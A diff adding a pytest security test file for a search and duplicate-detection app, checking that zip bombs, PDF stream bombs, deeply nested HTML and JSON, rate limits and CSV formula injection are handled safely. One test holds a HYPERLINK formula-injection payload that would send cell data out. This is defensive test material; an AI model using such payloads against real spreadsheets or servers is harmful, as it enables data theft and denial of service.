@@ -1,0 +1,319 @@
+"""Issue 10, part B: anonymous input that cannot hurt the server.
+
+Each test names the issue item it pins. Hostile files are generated (tests/security/files.py)
+and go through the real extractors, the real bounded runner, the real app and real indexes.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import dataclasses
+import io
+import resource
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from duplicates.report import csv_cell
+from govsearch.app import create_app
+from ingest import bounded
+from ingest.errors import ExtractionTimeout, IngestError, UnsafeFile
+from ingest.formats import docx as docx_format
+from ingest.formats import html as html_format
+from ingest.formats import registry
+from model.errors import TooManyRequests
+from model.settings import Settings
+from model.viewer import ANONYMOUS
+from search_api.keys import KeyStore
+from search_api.limits import HeavyGate
+from search_index.planner import MAX_COSTLY_ATOMS, MAX_SINGLE_CHAR_ATOMS, plan
+from search_index.request import Query
+from search_index.tree import Bool, Node, Regex
+from tests.search_index.dup_support import BACKENDS, backend, documents, load
+from tests.security import files as F
+
+from .conftest import TestClient
+
+# -- item 2: parsing bounded at the root and by the runner ------------------------------------
+
+
+def _seconds(fn, *args) -> float:
+    start = time.perf_counter()
+    try:
+        fn(*args)
+    except UnsafeFile:
+        pass  # refused before parsing: also bounded
+    return time.perf_counter() - start
+
+
+def _growth(make, small: int) -> float:
+    """How much longer 4× the input takes (≈4 when linear, ≈16 when quadratic); the best of
+    three runs each, so a busy machine does not decide."""
+    a = min(_seconds(html_format.extract, make(small), "x.html") for _ in range(3))
+    b = min(_seconds(html_format.extract, make(4 * small), "x.html") for _ in range(3))
+    return b / max(a, 1e-3)
+
+
+@pytest.mark.parametrize("unit", ["<table><tr><td>索引号</td><td>发文字号", "<strong>字"])
+def test_hostile_html_is_parsed_in_linear_time(unit: str) -> None:
+    growth = _growth(lambda n: F.html_page(unit * n), 700)  # 4× stays under the open-element cap
+    assert growth < 11, f"4× the nesting took {growth:.1f}× as long (quadratic)"
+
+
+def test_nested_tables_still_yield_metadata_of_a_real_table() -> None:
+    page = F.html_page(
+        "<table><tr><td><table><tr><td>索引号</td><td>000014349/2019-00012</td></tr>"
+        "<tr><td>发文字号</td><td>国办发〔2019〕5号</td></tr></table></td></tr></table>"
+        "<p>正文内容在这里，足够长的正文文字。</p>"
+    )
+    ex = html_format.extract(page, "x.html")
+    assert ex.properties["发文字号"] == "国办发〔2019〕5号"
+    assert "索引号" not in ex.text and "正文内容" in ex.text
+
+
+def test_docx_of_many_tiny_paragraphs_is_fast() -> None:
+    data = F.make_docx_paragraphs(4000)
+    took = _seconds(docx_format.extract, data, "x.docx")
+    assert took < 12, f"4,000 paragraphs took {took:.1f} s (style looked up per paragraph)"
+    assert docx_format.extract(data, "x.docx").text.count("\n") == 3999
+
+
+def test_docx_whose_zip_directory_lies_is_refused_without_inflating() -> None:
+    data = F.make_docx_lying_zip(inflated_mb=192)
+    infos = zipfile.ZipFile(io.BytesIO(data)).infolist()
+    assert sum(i.file_size for i in infos) < 2**20  # the directory check alone passes
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with pytest.raises(UnsafeFile, match="zip bomb"):
+        docx_format.extract(data, "lie.docx")
+    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    assert grown_mb < 64, f"peak memory grew by {grown_mb:.0f} MB"
+
+
+def _allocate(mb: int) -> int:
+    return len(bytearray(mb * 2**20))
+
+
+def _sleep(seconds: float) -> None:
+    time.sleep(seconds)
+
+
+def test_bounded_runner_has_a_memory_and_a_time_limit() -> None:
+    lim = bounded.Limits(timeout=20, memory_mb=256)
+    assert bounded.run_bounded(_allocate, (16,), lim) == 16 * 2**20
+    with pytest.raises(UnsafeFile, match="256 MB memory limit"):
+        bounded.run_bounded(_allocate, (1024,), lim)
+    start = time.monotonic()
+    with pytest.raises(ExtractionTimeout, match="time limit"):
+        bounded.run_bounded(_sleep, (30.0,), bounded.Limits(timeout=0.5, memory_mb=256))
+    assert time.monotonic() - start < 10
+    assert bounded.run_bounded(_allocate, (1,), lim) == 2**20  # a fresh child after a kill
+
+
+def _slow_extract(data: bytes, filename: str):
+    time.sleep(30)
+
+
+def test_every_format_goes_through_the_bounded_runner() -> None:
+    """Any registered format (not only PDF) is killed at the common time limit."""
+    before = bounded.limits()
+    bounded.configure(timeout=0.5)
+    registry.register(registry.Format(name="slowfmt", extensions=("slow",), extract=_slow_extract))
+    try:
+        with pytest.raises(ExtractionTimeout, match="SLOWFMT parsing exceeded"):
+            registry.extract(b"anything", "x.slow")
+    finally:
+        registry.unregister("slowfmt")
+        bounded.configure(timeout=before.timeout or 0, memory_mb=before.memory_mb or 0)
+
+
+def test_deeply_nested_html_is_refused_before_parsing() -> None:
+    """The parser's own scope checks are quadratic in nesting depth (16,000 nested <div>:
+    seconds in lexbor), so depth is capped before parsing; just under the cap stays quick."""
+    for unit in ("<div>字", '<div class="nav">字', "<nav>字"):
+        start = time.perf_counter()
+        with pytest.raises(UnsafeFile, match="elements open"):
+            html_format.extract(F.html_page(unit * 16000), "deep.html")
+        assert time.perf_counter() - start < 5
+        assert _seconds(html_format.extract, F.html_page(unit * 2900), "x.html") < 15
+    assert html_format.open_elements("<div><p>a<p>b<br><img></div>" * 5000) == 0
+
+
+def test_pdf_whose_stream_inflates_to_512_mb_stays_under_the_memory_limit() -> None:
+    data = F.make_pdf_stream_bomb(inflated_mb=512)
+    assert len(data) < 2_000_000
+    before = bounded.limits()
+    bounded.configure(memory_mb=256)
+    try:
+        start = time.monotonic()
+        try:
+            _, ex = registry.extract(data, "bomb.pdf")
+            assert "bomb" in ex.text  # parsed within 256 MB: fine too
+        except IngestError as exc:
+            assert "limit" in str(exc) or "damaged" in str(exc) or "no text" in str(exc).lower()
+        assert time.monotonic() - start < 120
+    finally:
+        bounded.configure(memory_mb=before.memory_mb or 0)
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss < 1024 * 1024  # parent < 1 GB
+
+
+# -- the app: items 2 (uploads), 4, 11 and the limits -----------------------------------------
+@pytest.fixture
+def app_client(tmp_path: Path):
+    def make(**overrides: object):
+        settings = Settings(data_dir=tmp_path / "data", **overrides)  # type: ignore[arg-type]
+        _, key = KeyStore(settings.data_dir).create("bounds")
+        client = TestClient(create_app(settings), raise_server_exceptions=False)
+        return client, {"Authorization": f"Bearer {key}"}
+
+    return make
+
+
+def test_hostile_uploads_are_a_clear_4xx(app_client) -> None:
+    client, _ = app_client()
+    lie = F.make_docx_lying_zip(inflated_mb=64)
+    r = client.post("/api/duplicates", files={"file": ("lie.docx", lie)})
+    assert r.status_code == 422 and "zip bomb" in r.json()["error"]["message"]
+    r = client.post("/api/duplicates", files={"file": ("t.html", F.html_page(F.NESTED_STRONG))})
+    assert r.status_code in (200, 422), r.text
+
+
+def test_item11_deeply_nested_json_is_a_400(app_client) -> None:
+    client, _ = app_client()
+    r = client.post(
+        "/api/duplicates",
+        content=b'{"text":' + b"[" * 100_000,
+        headers={"Content-Type": "application/json"},
+    )
+    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_request"
+
+
+def test_item4_anonymous_health_tells_up_or_down_only(app_client) -> None:
+    client, staff = app_client()
+    anon = client.get("/api/health").json()
+    assert anon == {"status": "ok", "backend": {"backend": "embedded", "status": "ok"}}
+    full = client.get("/api/health", headers=staff).json()
+    assert "documents" in full["backend"] and "path" in full["backend"]
+
+
+def test_rate_limit_answers_429_with_retry_after(app_client) -> None:
+    client, staff = app_client(rate_limit="2/minute")
+    body = {"text": "本市将继续推进老旧小区改造，计划改造小区一百个。"}
+    assert [client.post("/api/duplicates", json=body).status_code for _ in range(2)] == [200, 200]
+    r = client.post("/api/duplicates", json=body)
+    assert r.status_code == 429 and r.json()["error"]["code"] == "too_many_requests"
+    assert 1 <= int(r.headers["Retry-After"]) <= 60
+    page = client.post("/duplicates", data={"text": body["text"]})
+    assert page.status_code == 429 and "Retry-After" in page.headers
+    assert client.post("/api/duplicates", json=body, headers=staff).status_code == 200
+
+
+def test_heavy_gate_queues_then_refuses() -> None:
+    async def scenario() -> list[str]:
+        gate = HeavyGate(concurrency=1, queue=1, retry_after=7)
+        out: list[str] = []
+        release = asyncio.Event()
+
+        async def hold(name: str) -> None:
+            async with gate.slot():
+                out.append(name)
+                await release.wait()
+
+        first = asyncio.create_task(hold("first"))
+        await asyncio.sleep(0)
+        second = asyncio.create_task(hold("second"))  # queued
+        await asyncio.sleep(0)
+        try:
+            async with gate.slot():
+                out.append("third")
+        except TooManyRequests as exc:
+            out.append(f"429 retry {exc.data['retry_after']}")
+        release.set()
+        await asyncio.gather(first, second)
+        return out
+
+    assert asyncio.run(scenario()) == ["first", "429 retry 7", "second"]
+
+
+# -- item 6: quoted single characters ---------------------------------------------------------
+def _count(node: Node, kind: type) -> int:
+    n = int(isinstance(node, kind))
+    if isinstance(node, Bool):
+        for part in (*node.must, *node.should, *node.must_not):
+            n += _count(part, kind)
+    return n
+
+
+def test_item6_quoted_single_characters_are_capped() -> None:
+    chars = "政府信息公开条例规定行政机关应当主动公开本机关的下列政府信息"
+    q = " ".join(f'"{c}"' for c in (chars * 5)[:125])
+    p, understood = plan(Query(q=q))
+    assert _count(p.query, Regex) <= 2 * MAX_SINGLE_CHAR_ATOMS
+    distinct = len(dict.fromkeys((chars * 5)[:125]))
+    assert len(understood.ignored) == distinct - MAX_SINGLE_CHAR_ATOMS
+    many = " ".join(f'"{a}{b}"' for a, b in zip(chars, chars[1:], strict=False))
+    _, understood = plan(Query(q=many))
+    assert len(understood.phrases) == MAX_COSTLY_ATOMS
+    few, _ = plan(Query(q='"政" "府"'))
+    assert _count(few.query, Regex) == 4  # body and title for each: small queries unchanged
+
+
+# -- item 8: scores and hidden documents ------------------------------------------------------
+@pytest.mark.parametrize("kind", BACKENDS)
+def test_item8_hidden_documents_change_scores_not_hits(kind: str, tmp_path: Path) -> None:
+    """BM25 statistics (document frequency, average length) are computed by tantivy and
+    Elasticsearch over every document in the index, hidden ones included, so the same
+    anonymous query scores differently when hidden documents are added. Hits, totals and
+    facets do not change (the visibility filter). The README says what a deployment should do:
+    keep non-public documents in a separate data folder / index prefix. This test measures the
+    leak so the README stays true."""
+    docs = documents()
+    public = [d for d in docs if d.meta.disclosure == "public"]
+    extra = [
+        dataclasses.replace(d, id=d.id + "h", meta=dataclasses.replace(d.meta, disclosure="draft"))
+        for d in public[:20]
+    ]
+    from search_index.index import SearchIndex
+
+    queries = ["政府信息公开", "就业", "条例", "国务院 通知"]
+    results = []
+    for extra_docs in ([], extra):
+        with backend(kind, tmp_path) as b:
+            load(b, public + extra_docs)
+            index = SearchIndex(b)
+            results.append(
+                [index.search(Query(q=q, viewer=ANONYMOUS, size=50)) for q in queries]
+            )
+    differ = 0
+    for alone, mixed in zip(*results, strict=True):
+        assert alone.total == mixed.total
+        assert {h.doc.id for h in alone.hits} == {h.doc.id for h in mixed.hits}
+        differ += sum(a.score != b.score for a, b in zip(alone.hits, mixed.hits, strict=True))
+    assert differ > 0  # the leak exists: README "Security" documents it
+
+
+# -- item 9: CSV formula injection ------------------------------------------------------------
+def test_item9_csv_cells_never_start_a_formula() -> None:
+    assert csv_cell('=HYPERLINK("http://x/?"&A1,"点我")') == '\'=HYPERLINK("http://x/?"&A1,"点我")'
+    for bad in ("+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1"):
+        assert str(csv_cell(bad)).startswith("'")
+    assert csv_cell("国务院关于印发…的通知") == "国务院关于印发…的通知"
+    assert csv_cell(0.93) == 0.93
+
+
+@pytest.mark.parametrize("kind", BACKENDS)
+def test_item4_health_on_both_backends(kind: str, tmp_path: Path) -> None:
+    from tests.security.conftest import open_backend_index, serve
+
+    gen = open_backend_index(kind, tmp_path / "idx", "health")
+    index = next(gen)
+    try:
+        served = serve(Settings(data_dir=tmp_path / "data", backend=kind), index)
+        anon = served.client.get("/api/health").json()
+        assert set(anon["backend"]) == {"backend", "status"}, anon
+        assert "127.0.0.1" not in str(anon) and str(tmp_path) not in str(anon)
+        full = served.client.get("/api/health", headers=served.staff).json()
+        assert "documents" in full["backend"]
+    finally:
+        gen.close()
